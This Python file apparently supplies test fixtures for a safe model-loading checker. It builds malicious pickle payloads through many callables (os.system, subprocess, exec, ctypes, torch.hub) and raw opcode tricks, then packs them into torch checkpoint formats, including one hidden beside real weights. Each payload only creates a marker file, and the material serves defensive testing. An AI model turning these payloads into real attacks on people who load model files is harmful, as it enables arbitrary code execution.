"""Files that run code when they are read by somebody who does not take care: pickles in all their clothes."""

import io
import pickle
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import torch

Wrap = Callable[[bytes], bytes]


def payloads(marker: Path) -> Iterator[tuple[str, bytes]]:
    """Pickles that make a file `marker`, each by another call or other opcodes."""
    shell, code = f"touch {marker}", f"open({str(marker)!r}, 'w').close()"
    calls = {
        "os.system": ("posix", "system", (shell,)),
        "os.popen": ("os", "popen", (shell,)),
        "subprocess": ("subprocess", "check_output", (["touch", str(marker)],)),
        "exec": ("builtins", "exec", (code,)),
        "eval": ("builtins", "eval", (code,)),
        "open": ("io", "open", (str(marker), "w")),
        "runpy": ("runpy", "run_path", (str(marker),)),
        "timeit": ("timeit", "timeit", (code,)),
        "getattr": ("builtins", "getattr", ("", "format")),
        "numpy": ("numpy", "load", (str(marker),)),
        "torch_load": ("torch.serialization", "load", (str(marker),)),
        "load_from_bytes": ("torch.storage", "_load_from_bytes", (pickle.dumps(1),)),
        "collect_env": ("torch.utils.collect_env", "run", (shell,)),
        "hub": ("torch.hub", "load", ("owner/name", "model")),
        "jit": ("torch.jit", "load", (str(marker),)),
        "timm": ("timm.models", "load_state_dict", (str(marker),)),
        "library": ("ctypes", "CDLL", (str(marker),)),
        "dill": ("dill._dill", "_create_code", (code,)),
    }
    for name, (module, function, arguments) in calls.items():
        yield name, _reduced(module, function, arguments)
    arguments = pickle.dumps((shell,), 0)[:-1]
    for name, text in {
        "inst": b"(S'" + shell.encode() + b"'\niposix\nsystem\n.",
        "obj": b"(cposix\nsystem\nS'" + shell.encode() + b"'\no.",
        "newobj": b"cposix\nsystem\n" + arguments + b"\x81.",
        "newobj_ex": b"cposix\nsystem\n" + arguments + b"}\x92.",
        "stack_global": b"\x80\x04\x8c\x05posix\x8c\x06system\x93" + arguments + b"R.",
        "dotted": b"\x80\x04\x8c\x05torch\x8c\x12serialization.os.p\x93" + arguments + b"R.",
        "build": b"ctorch\nTensor\n)\x81}S'__setstate__'\ncposix\nsystem\nsb.",
        "extension": b"\x80\x02\x82\x01.",
        "persistent": b"Pcposix\nsystem\n.",
        "in_list": b"(lp0\n" + _reduced("posix", "system", (shell,))[:-1] + b"a.",
    }.items():
        yield name, text


def wrappers() -> dict[str, Wrap]:
    """How a pickle can lie in a file, by name."""
    return {"bare": bytes, "zip": _zipped, "legacy": _legacy, "tar": _tar, "nested": _nested}


def _reduced(module: str, function: str, arguments: tuple) -> bytes:
    """A pickle that calls a function; protocol 2, which torch writes."""
    call = f"c{module}\n{function}\n".encode()
    return b"\x80\x02" + call + pickle.dumps(arguments, 2)[2:-1] + b"R."


def _zipped(content: bytes) -> bytes:
    """As `torch.save` writes it, sums and all."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_STORED) as archive:
        for name, record in (("data.pkl", content), ("byteorder", b"little"), ("version", b"3\n")):
            archive.writestr(f"archive/{name}", record)
    return file.getvalue()


def _nested(content: bytes) -> bytes:
    """An archive with weights that can be read, and the pickle in a tensor's place."""
    weights = {"head.weight": torch.ones(2, 2)}
    text = pickle.dumps(weights["head.weight"].tolist(), 2)[2:-1]
    return _zipped(
        b"\x80\x02}(X\x0b\x00\x00\x00head.weight" + text + b"X\x01\x00\x00\x00a" + content[2:-1] + b"u."
    )


def _legacy(content: bytes) -> bytes:
    """As torch wrote it before 1.6."""
    parts = (torch.serialization.MAGIC_NUMBER, torch.serialization.PROTOCOL_VERSION, {"little_endian": True})
    return b"".join(pickle.dumps(part, 2) for part in parts) + content + pickle.dumps([], 2)


def _tar(content: bytes) -> bytes:
    """As torch wrote it before 0.1.10."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name, record in (
            ("sys_info", pickle.dumps({"little_endian": True}, 2)),
            ("pickle", content),
            ("storages", pickle.dumps(0, 2)),
            ("tensors", pickle.dumps(0, 2)),
        ):
            member = tarfile.TarInfo(name)
            member.size = len(record)
            archive.addfile(member, io.BytesIO(record))
    return file.getvalue()
